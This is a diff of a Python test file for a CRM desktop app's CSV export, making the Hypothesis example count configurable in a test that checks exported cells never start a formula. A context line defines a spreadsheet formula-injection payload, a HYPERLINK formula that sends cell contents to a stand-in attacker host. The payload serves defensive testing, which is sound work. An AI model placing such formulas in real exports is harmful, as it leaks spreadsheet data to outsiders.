@@ -20,6 +20,7 @@ from minicrm_desktop.services.core.csv_export import FORMULA_STARTS, csv_writer,
 from minicrm_desktop.services.customers.queries import CustomerQuery, export_customers_csv
 from minicrm_desktop.services.importing import import_customers
 from minicrm_desktop.services.importing.report import ImportReport, RejectedRow
+from tests.examples import examples
 from tests.helpers import write_csv
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -56,7 +57,7 @@ def _population(engine: Engine, tmp_path: Path) -> None:
     assert report.imported == 4
 
 
-@settings(max_examples=80, deadline=None, derandomize=True, database=None)
+@settings(max_examples=examples(80), deadline=None, derandomize=True, database=None)
 @given(st.lists(st.one_of(st.text(), st.integers(), st.sampled_from(FORMULA_STARTS)),
                 max_size=6))
 def test_no_written_text_cell_starts_a_formula(cells: list[object]) -> None:
